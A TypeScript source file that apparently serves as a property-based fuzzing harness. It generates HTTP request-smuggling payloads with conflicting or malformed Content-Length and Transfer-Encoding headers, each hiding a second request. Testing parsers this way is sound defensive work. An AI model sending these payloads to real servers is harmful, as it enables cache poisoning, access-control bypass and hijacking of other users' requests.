import fc from "fast-check";

/** A request that no honest client sends, and the request that is hidden in it. */
export interface Attack {
  /** What is sent, one character for each byte. */
  readonly bytes: string;
  /** Number of the hidden request. */
  readonly id: number;
}

const end = "\r\n";
const hidden = (id: number) => `GET /hidden.php?id=${id} HTTP/1.1${end}Host: www.example.com${end}X-Ignore: x`;
/** A length in hexadecimal, as chunks have it. */
const hex = (text: string) => text.length.toString(16);

/** Headers that say how long a body is, each in forms on which two programs may disagree. */
const lengths = (length: number) => [
  ...["", "+", "-", "0", "0x", " ", "\t"].map(sign => `Content-Length: ${sign}${length}`),
  ...[`${length}, ${length}`, `${length},0`, `${length} 0`, `${length}.0`, "1e2", "", "9".repeat(30), `${length};`].map(
    value => `Content-Length: ${value}`,
  ),
  ...[
    "Content-Length : ",
    " Content-Length: ",
    "Content_Length: ",
    "Content-Length:\u000b",
    "CONTENT-LENGTH:",
    "Content-Length\0: ",
  ].map(name => name + length),
];
const codings = [
  ...[
    "chunked",
    "Chunked",
    "chunked ",
    "\tchunked",
    "xchunked",
    "chunked, identity",
    "identity, chunked",
    "gzip, chunked",
    '"chunked"',
    "chunked;q=1",
    "cow",
    "",
    "\u000bchunked",
    "chun\0ked",
  ].map(value => `Transfer-Encoding: ${value}`),
  ...[
    "Transfer-Encoding : chunked",
    " Transfer-Encoding: chunked",
    "Transfer_Encoding: chunked",
    `Transfer-Encoding:${end} chunked`,
    "X: y\nTransfer-Encoding: chunked",
    "X: y\rTransfer-Encoding: chunked",
    "TE: chunked",
  ],
];
/** Bodies in chunks that end before, after, or in the hidden request. */
const chunked = (text: string) => [
  `0${end}${end}${text}`,
  `${hex(text)}${end}${text}${end}0${end}${end}`,
  `${hex(text)};x="${end}"${end}${text}${end}0${end}${end}`,
  `+${hex(text)}${end}${text}${end}0${end}${end}`,
  `0x${hex(text)}${end}${text}${end}0${end}${end}`,
  `${hex(text)}\n${text}\n0\n\n`,
  `ffffffffffffffff1${end}${text}`,
  `0${end}X: y${end}${end}${text}`,
  `1${end}ab${end}0${end}${end}${text}`,
  ` 0${end}${end}${text}`,
];
const firstLines = [
  ...["GET / HTTP/1.1", "POST / HTTP/1.1", "POST /echo.php HTTP/1.1", "POST / HTTP/1.0", "OPTIONS * HTTP/1.1"],
  ...[
    "GET / HTTP/1.2",
    "GET / HTTP/9.9",
    "GET / HTTP/2.0",
    "GET /",
    "get / HTTP/1.1",
    "GET  / HTTP/1.1",
    "GET\t/ HTTP/1.1",
    "GET / HTTP/1.1 ",
    "GET / http/1.1",
  ],
  ...[
    "CONNECT www.example.com:443 HTTP/1.1",
    "TRACE / HTTP/1.1",
    "PRI * HTTP/2.0",
    "GET http://www.example.com/ HTTP/1.1",
    "GET http://other.example/ HTTP/1.1",
    "GET //x HTTP/1.1",
    "GET /%00 HTTP/1.1",
  ],
  ...[
    "GET /\0 HTTP/1.1",
    "GET /é HTTP/1.1",
    "GET /#x HTTP/1.1",
    "GET /a b HTTP/1.1",
    "GET / HTTP/1.1\rX: y",
    `${"A".repeat(300)} / HTTP/1.1`,
    "\0",
    "\x16\x03\x01\x02\x00\x01",
  ],
];
const otherHeaders = [
  ...[
    "Connection: keep-alive, Content-Length",
    "Connection: Transfer-Encoding",
    "Connection: close",
    "Connection: upgrade",
    "Upgrade: h2c",
    "HTTP2-Settings: AAMAAABkAAQAAP__",
  ],
  ...[
    "Expect: 100-continue",
    "Expect: x",
    "Host: other.example",
    "Host:",
    "Host: a, b",
    "X:",
    ": x",
    "X",
    "X y: z",
    " folded",
    "\tfolded",
    "X: \0",
    "X: \u007f",
    `X: ${"a".repeat(9000)}`,
    "Trailer: Content-Length",
  ],
];

const lines = (length: number) =>
  fc.array(
    fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom(...lengths(length)) },
      { weight: 3, arbitrary: fc.constantFrom(...codings) },
      { weight: 2, arbitrary: fc.constantFrom(...otherHeaders) },
      { weight: 1, arbitrary: fc.string({ unit: "binary-ascii", maxLength: 30 }) },
    ),
    { minLength: 1, maxLength: 4 },
  );

/** An attack of this number. */
function attack(id: number): fc.Arbitrary<Attack> {
  const text = `${hidden(id)}${end}${end}`;
  return fc.constantFrom(text, ...chunked(text)).chain(body =>
    fc
      .record({
        first: fc.oneof(
          { weight: 4, arbitrary: fc.constantFrom("POST / HTTP/1.1", "POST /echo.php HTTP/1.1", "GET / HTTP/1.1") },
          { weight: 1, arbitrary: fc.constantFrom(...firstLines) },
        ),
        headers: fc.oneof(lines(body.length), lines(0), lines(4), lines(body.length - text.length)),
        newline: fc.oneof(
          { weight: 9, arbitrary: fc.constant(end) },
          { weight: 1, arbitrary: fc.constantFrom("\n", "\r", "\r\r\n") },
        ),
      })
      .map(({ first, headers, newline }) => ({
        id,
        bytes: [first, "Host: www.example.com", ...headers, "", body].join(newline),
      })),
  );
}

/** Attacks that the seed decides. */
export const attacks = (seed: number, count: number): Attack[] =>
  Array.from({ length: count }, (_, id) => fc.sample(attack(id), { seed: seed + id, numRuns: 1 })[0] as Attack);
